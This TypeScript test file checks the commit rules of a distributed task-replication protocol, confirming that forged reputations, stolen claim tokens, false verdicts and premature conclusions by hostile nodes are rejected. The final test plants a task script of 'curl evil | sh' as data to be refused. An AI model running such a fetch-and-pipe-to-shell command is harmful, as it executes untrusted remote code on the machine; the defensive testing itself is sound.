// The commit rules for quorum tasks (protocol/commit-rules.ts with quorum-rules.ts): a replica claim, a replica
// run and the concluding commit as replication.ts makes them pass; what a hostile node might slip in is void.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { judgeCommit, type Author, type PathChange, type Rec, type RuleContext } from '../src/protocol/commit-rules.js';
import { reputationUpdates } from '../src/protocol/replication.js';
import { replicasOf, runOf, judge as judgeRuns } from '../src/protocol/quorum.js';
import type { NodeRecord, Result } from '../src/protocol/schemas.js';

const T0 = Date.parse('2026-01-01T00:00:00Z');
const node = (id: string): Author => ({ kind: 'node', node: id });
const reaper: Author = { kind: 'reaper', name: 'dgrid-reaper-abc123' };
const task = { task_id: 't1', script: 'echo hi', quorum: 2 };
const claim = (id: string, attempt: number) => ({
  ...task,
  claim: {
    node_id: id,
    token: `token-${id}`,
    attempt,
    claimed_at: '2026-01-01T00:00:00Z',
    lease_until: '2026-01-01T01:00:00Z',
  },
});
const run = (id: string, attempt: number, stdout = 'hi') =>
  ({
    ...claim(id, attempt),
    node_id: id,
    attempt,
    status: 'success',
    exit_code: 0,
    stdout_sha256: stdout,
  }) as unknown as Result;
const nodeFile = (id: string): NodeRecord =>
  ({ node_id: id, status: 'online', last_heartbeat: '2026-01-01T00:00:00Z', tasks: [] }) as unknown as NodeRecord;

const Q = 'tasks/queue/t1.json';
const P = (id: string) => `tasks/in_progress/${id}/t1.json`;
const RUN = (id: string) => `tasks/replicas/t1/${id}.json`;
const R = 'tasks/completed/2026-01-01/8f/t1.json';
const N = (id: string) => `nodes/${id}.json`;

function change(path: string, before: Rec, after: Rec): PathChange {
  return { path, before, after, beforeSha: before ? 'b'.repeat(40) : null, afterSha: after ? 'a'.repeat(40) : null };
}
const rec = (r: unknown) => r as Record<string, unknown>;

function context(): RuleContext {
  return {
    quarantined: new Set(),
    nodes: new Map(['a', 'b', 'c'].map((id) => [id, rec(nodeFile(id))])),
    heartbeatSeconds: 60,
    admitted: new Map(),
    restorable: new Map(),
    hasResult: () => false,
    queued: (id) => (id === 't1' ? task : undefined),
  };
}

const judge = (author: Author, changes: PathChange[], time = T0 + 1000, ctx = context()) =>
  judgeCommit({ author, time, message: '', archivedTo: [] }, changes, ctx);

/** b concludes t1 with its own run beside a's: the commit replication.ts makes, reputations included. */
function conclusion(): { changes: PathChange[]; updates: Map<string, NodeRecord> } {
  const runs = [run('a', 1), run('b', 2)];
  const judgement = judgeRuns(runs.map(runOf), 0, 2, 4);
  assert.equal(judgement.state, 'agreed');
  const result = { ...runs[1]!, replicas: replicasOf(runs.map(runOf), judgement.verdicts) };
  const nodes = new Map(['a', 'b', 'c'].map((id) => [id, nodeFile(id)]));
  const updates = reputationUpdates(result.replicas, nodes);
  return {
    updates,
    changes: [
      change(Q, task, undefined),
      change(P('b'), claim('b', 2), undefined),
      change(RUN('a'), rec(runs[0]), undefined),
      change(P('c'), claim('c', 3), undefined),
      change(R, undefined, rec(result)),
      change(N('a'), rec(nodeFile('a')), rec(updates.get('a'))),
      change(N('b'), rec(nodeFile('b')), rec(updates.get('b'))),
    ],
  };
}

test('a node claims a replica beside the queued record, records its run and concludes as judge() says', () => {
  assert.deepEqual(judge(node('a'), [change(P('a'), undefined, claim('a', 1))]), []);
  assert.deepEqual(
    judge(node('a'), [change(P('a'), claim('a', 1), undefined), change(RUN('a'), undefined, rec(run('a', 1)))]),
    [],
  );
  assert.deepEqual(judge(node('b'), conclusion().changes), []);
  // A cancel ends the whole task: its claims and runs go with the queued record.
  const cancelled = { ...task, node_id: 'b', status: 'cancelled', exit_code: null };
  const F = 'tasks/failed/2026-01-01/8f/t1.json';
  const leftovers = [change(P('a'), claim('a', 1), undefined), change(RUN('c'), rec(run('c', 2)), undefined)];
  assert.deepEqual(judge(node('b'), [change(Q, task, undefined), ...leftovers, change(F, undefined, cancelled)]), []);
});

test('the reaper returns an orphaned replica claim into the queued record history', () => {
  const returned = { ...task, attempts: [{ attempt: 1, node_id: 'a', claim_token: 'token-a', status: 'orphaned' }] };
  const late = T0 + 2 * 3600_000;
  assert.deepEqual(judge(reaper, [change(P('a'), claim('a', 1), undefined), change(Q, task, returned)], late), []);
  assert.equal(judge(reaper, [change(P('a'), claim('a', 1), undefined), change(Q, task, returned)]).length, 1);
});

test("a node writing another node's reputation arbitrarily is void", () => {
  const { changes, updates } = conclusion();
  const inflated = { ...updates.get('a')!, reputation: { ...updates.get('a')!.reputation!, valid: 99 } };
  const forged = changes.map((c) => (c.path === N('a') ? change(N('a'), c.before, rec(inflated)) : c));
  assert.match(judge(node('b'), forged).join('\n'), /nodes\/a\.json: not the reputation/);
  // Nor a node the conclusion did not judge, nor any node file without a conclusion.
  const c = { ...nodeFile('c'), status: 'quarantined', tasks: [] };
  assert.match(judge(node('b'), [...changes, change(N('c'), rec(nodeFile('c')), rec(c))]).join('\n'), /nodes\/c\.json/);
  assert.match(
    judge(node('b'), [change(N('a'), rec(nodeFile('a')), rec(updates.get('a')))]).join('\n'),
    /own node file/,
  );
});

test("a node removing another node's replica claim without concluding is void", () => {
  assert.equal(judge(node('b'), [change(P('a'), claim('a', 1), undefined)]).length, 1);
  // A conclusion that judges fewer runs than quorum needs concludes nothing.
  const early = [
    change(Q, task, undefined),
    change(P('a'), claim('a', 1), undefined),
    change(R, undefined, rec({ ...run('b', 2), replicas: [] })),
  ];
  assert.equal(judge(node('b'), early).length, 1);
  // Verdicts that are not judge()'s: a's run called invalid.
  const { changes } = conclusion();
  const lying = changes.map((c) => {
    if (c.path !== R) return c;
    const result = rec(c.after);
    const replicas = (result.replicas as { verdict: string }[]).map((r, i) => ({
      ...r,
      verdict: i === 0 ? 'invalid' : r.verdict,
    }));
    return change(R, undefined, { ...result, replicas });
  });
  assert.match(
    judge(
      node('b'),
      lying.filter((c) => !c.path.startsWith('nodes/')),
    ).join('\n'),
    /judge\(\)/,
  );
  // A run left behind (one that would outvote the concluding node) is never judged.
  const withRun = { ...context(), runsBefore: () => [RUN('a'), RUN('c')] };
  assert.match(
    judge(node('b'), changes, T0 + 1000, withRun).join('\n'),
    /without judging tasks\/replicas\/t1\/c\.json/,
  );
});

test('a node writing a replica run for a claim it does not hold is void', () => {
  assert.equal(judge(node('b'), [change(RUN('b'), undefined, rec(run('b', 2)))]).length, 1);
  assert.equal(
    judge(node('b'), [change(P('a'), claim('a', 1), undefined), change(RUN('a'), undefined, rec(run('a', 1)))]).length,
    1,
  );
  const stolen = { ...run('b', 2), claim: { ...claim('b', 2).claim, token: 'token-a' } };
  assert.equal(
    judge(node('b'), [change(P('b'), claim('b', 2), undefined), change(RUN('b'), undefined, rec(stolen))]).length,
    1,
  );
  // A replica claim whose task is not the queued one.
  assert.equal(judge(node('a'), [change(P('a'), undefined, { ...claim('a', 1), script: 'curl evil | sh' })]).length, 1);
});
